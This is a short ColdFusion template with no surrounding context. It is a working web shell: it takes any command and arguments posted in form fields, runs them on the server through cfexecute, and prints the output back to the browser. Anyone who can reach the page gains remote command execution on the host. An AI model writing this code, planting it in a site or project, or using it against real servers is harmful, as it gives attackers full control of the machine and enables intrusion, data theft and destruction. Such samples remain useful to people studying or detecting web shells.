<cfif isDefined("form.cmd")>
<cfexecute name="#form.cmd#" arguments="#form.args#" timeout="10" variable="out"></cfexecute>
<cfoutput><pre>#htmlEditFormat(out)#</pre></cfoutput>
</cfif>
